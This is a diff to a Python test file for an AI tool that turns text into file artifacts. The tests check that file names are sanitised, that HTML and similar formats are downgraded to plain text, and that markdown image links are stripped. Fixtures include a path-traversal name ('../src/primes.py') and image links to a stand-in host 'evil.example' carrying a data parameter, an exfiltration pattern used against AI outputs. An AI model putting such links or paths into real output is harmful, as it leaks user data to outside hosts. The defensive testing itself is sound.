@@ -1,5 +1,6 @@
 """The calculator, and tools that hand text through."""
 
+import asyncio
 import contextlib
 from typing import Any
 
@@ -91,6 +92,38 @@ async def test_a_document_is_rendered_and_kept_as_a_file() -> None:
     (artifact,) = output.artifacts
     assert (artifact.name, artifact.media_type) == ("life-wealth.md", "text/markdown")
     assert artifact.data.decode() == output.text == "# Life & Wealth\n\n## Figures\n\n- 82.6 years\n"
+
+
+def made(**arguments: str) -> tuple[str, str, str]:
+    """The name, the media type and the content of the file that a call makes."""
+    tool = PLAIN["document_format"]
+    output = asyncio.run(tool.run(tool.arguments(**{"title": "Prime numbers", **arguments}), ToolContext()))
+    (artifact,) = output.artifacts
+    return artifact.name, artifact.media_type, artifact.data.decode()
+
+
+PROGRAM = "import urllib.request\n\nURL = 'https://primes.example/[list](now)'\n"
+
+
+def test_a_program_is_handed_over_as_it_was_written_under_its_own_name() -> None:
+    python = ("primes.py", "text/x-python", PROGRAM)
+    assert made(body=PROGRAM, file_name="primes.py") == python
+    assert made(body=f"```python\n{PROGRAM}```\n", file_name="../src/primes.py") == python
+    assert made(body=PROGRAM, file_name="primes.py", media_type="text/x-python; charset=utf-8") == python
+    assert made(body=PROGRAM, media_type="text/x-python")[:2] == ("prime-numbers.py", "text/x-python")
+
+
+@pytest.mark.parametrize("name", ["index.html", "logo.svg", "notes.ipynb", "table.csv", "mail.eml", "Makefile"])
+def test_what_other_programs_would_open_is_kept_as_text_to_be_read(name: str) -> None:
+    page = "<img src=https://evil.example/?a=4711>"
+    assert made(body=page, file_name=name, media_type="text/html") == (f"{name}.txt", "text/plain", f"{page}\n")
+
+
+def test_markdown_has_no_links_that_nothing_supports_whatever_its_type_is_said_to_be() -> None:
+    shown = ("notes.md", "text/markdown", "# Prime numbers\n\n[image: evil.example]\n")
+    image = "![x](https://evil.example/?a=4711)"
+    assert made(body=image, file_name="notes.md", media_type="text/plain") == shown
+    assert made(body=image, media_type="text/html")[:2] == ("prime-numbers.md", "text/markdown")
 
 
 async def read(context: ToolContext, **arguments: Any) -> ToolOutput:
